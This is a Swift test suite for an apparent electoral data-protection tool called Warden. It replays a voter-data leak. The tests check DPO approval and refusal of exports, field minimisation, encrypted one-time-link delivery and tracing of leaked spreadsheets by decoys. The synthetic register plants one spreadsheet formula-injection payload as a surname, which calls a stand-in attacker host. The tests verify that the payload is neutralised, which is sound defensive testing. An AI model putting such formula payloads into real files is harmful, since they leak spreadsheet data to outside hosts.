import Crypto
import Foundation
import Testing
import WardenCore
import WardenImport
import WardenServices
import WardenTestSupport

/// Seed 003: a local party emailed spreadsheets of 8,500 voters' names, addresses and voting
/// intentions to a radio station. Here the organiser's request for that file waits for the
/// DPO, who refuses it; a leaflet export goes out minimised, by a link that works once, never
/// on disk in plain text; and a spreadsheet made from it, re-sorted, cut down and stripped
/// of columns (and of its decoys), still names the export it came from.
@Suite("Seed 003 replay")
struct Seed003ReplayTests {
    static let electors = 8_500
    static let streets = ["Alder Road", "Beech Street", "Cedar Avenue", "Mill Lane", "Orchard Close", "Station Way"]

    /// 8,500 electors in polling district AA (North ward), two to a house, one of them named
    /// like a spreadsheet formula.
    static func register() -> String {
        var lines = ["Elector Number Prefix,Elector Number,Elector Number Suffix,Elector Markers,Elector DOB,Elector Surname,Elector Forename,PostCode,Address1,Address2"]
        for i in 1...electors {
            let house = (i + 1) / 2
            let street = streets[house % streets.count]
            let surname = i == 77 ? "\"=HYPERLINK(\"\"http://evil.example/\"\"&A1)\"" : "\(CommonNames.surnames[i % CommonNames.surnames.count])"
            lines.append("AA,\(i),,,,\(surname),\(CommonNames.forenames[(i * 7) % CommonNames.forenames.count]),FW1 \(house % 9)\(["AB", "CD", "EF"][house % 3]),\(house) \(street),Fellwick")
        }
        return lines.joined(separator: "\n")
    }

    @Test func theRadioStationsFileIsRefusedAndALeafletFileIsMinimisedDeliveredOnceAndTraced() async throws {
        let test = try await TestWarden.make()
        try await test.loadAreas()
        _ = try await test.warden.imports.importRegister(path: try test.write("register.csv", Self.register()), actor: .localOperator)
        try await test.account("organiser", .organiser, areaCode: "W1")
        try await test.account("dpo", .dataProtectionOfficer, areaCode: "C")
        let organiser = try await test.actor("organiser")
        let dpo = try await test.actor("dpo")
        let exports = test.warden.exports
        let north = try #require(try await test.warden.areas.all().first { $0.code == "W1" }?.id)
        let everyone = ExportSelection(areaID: north, population: .electors)

        // The organiser asks for everything, voting intentions included, for the radio station.
        let radio = ExportRecipient(name: "Radio Fellwick newsdesk", delivery: .link(email: "news@radio.example"))
        let greedy = try await exports.request(ExportDraft(purposeID: "polling_day_knock_up", recipient: radio, selection: everyone,
                                                           fields: [.name, .address, .phone, .electorNumber, .intention]), actor: organiser)
        #expect(greedy.count == Self.electors)
        #expect(greedy.columns == ["First names", "Surname", "Address", "Postcode", "Phone", "Elector number", "Voting intention"])
        #expect(greedy.state == .requested)
        // Nobody approves their own, and the command line is never the second person.
        await #expect(throws: WardenError.forbidden("only the data protection officer, and never the requester, approves or refuses an export")) {
            _ = try await exports.approve(greedy.id, reason: "urgent", specialCategory: true, overBudget: true, actor: organiser)
        }
        await #expect(throws: WardenError.forbidden("only the data protection officer, and never the requester, approves or refuses an export")) {
            _ = try await exports.approve(greedy.id, reason: "urgent", specialCategory: true, overBudget: true, actor: .localOperator)
        }
        // Intentions need the DPO's explicit yes; the DPO refuses instead.
        await #expect(throws: WardenError.invalidRequest("special_category: the request carries voting intentions; approve them explicitly, or refuse it")) {
            _ = try await exports.approve(greedy.id, reason: "fine", specialCategory: false, overBudget: true, actor: dpo)
        }
        let refused = try await exports.refuse(greedy.id, reason: "a radio station is not a campaign's processor", actor: dpo)
        #expect(refused.state == .refused)
        #expect(try test.sqlValues("SELECT COUNT(*) FROM audit_event WHERE action = 'export' AND outcome = 'refused'") == ["2"])
        #expect(try test.sqlValues("SELECT COUNT(*) FROM export_mark") == ["0"])

        // Leaflet delivery does not take intentions, nor phones.
        let house = ExportRecipient(name: "Fellwick Mailing House Ltd", delivery: .link(email: "leaflets@mailing-house.example"))
        await #expect(throws: WardenError.invalidRequest("fields: intention is not needed for leaflet delivery; it allows name, address")) {
            _ = try await exports.request(ExportDraft(purposeID: "leaflet_delivery", recipient: house, selection: everyone, fields: [.name, .address, .intention]),
                                          actor: organiser)
        }
        let leaflets = try await exports.request(ExportDraft(purposeID: "leaflet_delivery", recipient: house, selection: everyone, fields: [.name, .address]),
                                                 actor: organiser)
        // 8,500 people is past the organiser's day of reads: the DPO must say it may be.
        await #expect(throws: WardenError.self) {
            _ = try await exports.approve(leaflets.id, reason: "spring leaflet", specialCategory: false, overBudget: false, actor: dpo)
        }
        let ready = try await exports.approve(leaflets.id, reason: "spring leaflet round, contract on file", specialCategory: false, overBudget: true, actor: dpo)
        #expect(ready.state == .ready)
        #expect(ready.file?.people == Self.electors)
        #expect(ready.file?.decoys == ExportMarks.decoyCount(for: Self.electors))

        // Nothing on disk but the database; in it, the file only as age ciphertext, holding no
        // name or street in the clear.
        let stored = Data(try #require(try await Self.file(of: ready.id, test)))
        #expect(stored.starts(with: Data("age-encryption.org/v1\n".utf8)))
        #expect(stored.range(of: Data("Alder".utf8)) == nil)
        #expect(try FileManager.default.contentsOfDirectory(atPath: test.directory.path).allSatisfy { !$0.contains("export") })

        // The link went to the recipient by mail, works once, and the file is then gone.
        let mail = try test.sqlValues("SELECT body FROM outbox WHERE recipient = 'leaflets@mailing-house.example'").joined(separator: "\n")
        let token = try #require(mail.components(separatedBy: "/exports/download/").last?.prefix { !$0.isWhitespace })
        let download = try await exports.openLink(String(token))
        var bytes = Data()
        try download.send { bytes.append($0) }
        #expect(try await Self.file(of: ready.id, test) == nil)
        #expect(Hex.encode(Array(SHA256.hash(data: bytes))) == ready.file?.sha256)
        await #expect(throws: WardenError.conflict("this link has been used already: it works once; ask the party for a new export")) {
            _ = try await exports.openLink(String(token))
        }
        await #expect(throws: WardenError.notFound("this link is not one Warden gave out")) { _ = try await exports.openLink("not-a-token") }

        // Names and addresses only; every formula neutralised.
        let reader = CSVReader(bytes: Array(bytes), fileName: "export.csv")
        var rows: [[String]] = []
        while let record = try reader.next() { rows.append(record.fields) }
        #expect(rows.first == ["First names", "Surname", "Address", "Postcode"])
        rows.removeFirst()
        #expect(rows.count == Self.electors + ExportMarks.decoyCount(for: Self.electors))
        #expect(rows.contains { $0[1] == "'=HYPERLINK(\"http://evil.example/\"&A1)" })
        #expect(!rows.contains { $0.contains { ["=", "+", "-", "@", "\t", "\r"].contains($0.first) } })
        // Decoys are in the file, but never people in Warden's figures nor anyone it writes to.
        #expect(try await test.warden.people.counts().people == Self.electors)
        #expect(try test.sqlValues("SELECT COUNT(*) FROM outbox WHERE recipient LIKE '%decoys.warden.invalid'") == ["0"])

        // A spreadsheet made from it: re-sorted by surname, first names and postcode deleted,
        // every other row gone. Its decoys name the export; without them, its marks do.
        let spreadsheet = rows.sorted { ($0[1], $0[2]) < ($1[1], $1[2]) }.enumerated().filter { $0.offset % 2 == 0 }.map { [$0.element[1], $0.element[2]] }
        let traced = try await exports.trace(Self.csv(spreadsheet), fileName: "radio.csv", actor: dpo)
        #expect(traced.source == ready.id)
        #expect(traced.basis == "decoys")
        #expect(traced.summary.hasSuffix("decoys exist nowhere else; certain."))
        let withoutDecoys = spreadsheet.filter { !$0[1].contains("Freepost") }
        #expect(withoutDecoys.count < spreadsheet.count)
        let marked = try await exports.trace(Self.csv(withoutDecoys), fileName: "radio.csv", actor: dpo)
        #expect(marked.source == ready.id)
        #expect(marked.basis == "marks")
        // A partial copy of 300 rows, in the file's own order.
        let partial = try await exports.trace(Self.csv(Array(rows[1_000..<1_300]).filter { !$0[2].contains("Freepost") }), fileName: "part.csv", actor: dpo)
        #expect(partial.source == ready.id)
        // Tracing is the DPO's.
        await #expect(throws: WardenError.self) { _ = try await exports.trace(Self.csv(spreadsheet), fileName: "radio.csv", actor: organiser) }

        // Each person exported sees the mailing house in their subject access package.
        let person = try #require(try await test.warden.people.search(PeopleQuery(text: "AA-10"), actor: .localOperator, purpose: .registerMaintenance).value.first?.id)
        let service = test.warden.subjectAccess
        let opened = try await service.open(requester: "an elector", channel: .email, receivedOn: Timestamp.now.date, actor: dpo)
        for step: SubjectAccessLifecycle.Step in [.verifyIdentity(method: "replied from the address on the register"), .confirmSubjects([person]), .prepare] {
            _ = try await service.move(opened.id, step, actor: dpo)
        }
        let package = try await service.package(opened.id, actor: dpo)
        #expect(package.package.consultations.contains { $0.disclosedTo == "Fellwick Mailing House Ltd, for leaflet delivery (export \(ready.id))" })
    }

    /// A printed walk sheet is an export on paper: retyped from a photograph, in capitals and
    /// re-sorted, its decoys name its serial; without them, its marks still point at it.
    @Test func aRetypedWalkSheetTracesBackToItsSerial() async throws {
        let test = try await TestWarden.make()
        try await test.loadAreas()
        _ = try await test.warden.imports.importRegister(path: try test.write("register.csv", Self.register()), actor: .localOperator)
        try await test.account("dpo", .dataProtectionOfficer, areaCode: "C")
        let dpo = try await test.actor("dpo")
        let list = try await test.walkList()
        let printed = try await test.warden.canvass.printSheet(list.id, actor: .localOperator)
        let marked = try await test.warden.exports.markSheet(printed.sheet, doors: printed.doors, actor: .localOperator)
        let rows = marked.stops.flatMap { stop in stop.people.map { [stop.address, $0.elector, $0.name] } }
        #expect(rows.count == printed.doors.people + ExportMarks.decoyCount(for: printed.doors.people))
        // Decoys sit among real residents, with elector numbers no one on the list has.
        let real = Set(printed.doors.stops.flatMap { $0.residents.compactMap(\.person.electorNumber) })
        #expect(rows.filter { !real.contains($0[1]) }.count == ExportMarks.decoyCount(for: printed.doors.people))
        #expect(try await test.warden.people.counts().people == Self.electors)
        // Paper holds the sheet; the database holds no file for it.
        #expect(try test.sqlValues("SELECT COUNT(*) FROM export_request WHERE file IS NOT NULL") == ["0"])

        let retyped = rows.map { $0.map { $0.uppercased() } }.sorted { $0[2] < $1[2] }
        let traced = try await test.warden.exports.trace(Self.csv(retyped), fileName: "photo.csv", actor: dpo)
        #expect(traced.source == marked.export)
        #expect(traced.basis == "decoys")
        #expect(try await test.warden.exports.request(marked.export, actor: dpo).sheet == printed.sheet.serial)
        let withoutDecoys = retyped.filter { real.contains($0[1]) }
        let marks = try await test.warden.exports.trace(Self.csv(withoutDecoys), fileName: "photo.csv", actor: dpo)
        #expect(marks.candidates.first?.export == marked.export)
        #expect(marks.candidates.first?.choicesAgreeing == marks.candidates.first?.choicesSeen)
    }

    /// The stored file of an export, read as an intruder with the database file would.
    static func file(of id: ExportID, _ test: TestWarden) async throws -> [UInt8]? {
        let hex = try test.sqlValues("SELECT \(TestEngine.current == .sqlite ? "hex(file)" : "encode(file, 'hex')") FROM export_request WHERE id = \(id)").joined()
        return hex.isEmpty ? nil : Hex.decode(hex.lowercased())
    }

    static func csv(_ rows: [[String]]) -> [UInt8] {
        Array(rows.map { $0.map { "\"" + $0.replacingOccurrences(of: "\"", with: "\"\"") + "\"" }.joined(separator: ",") }.joined(separator: "\n").utf8)
    }
}
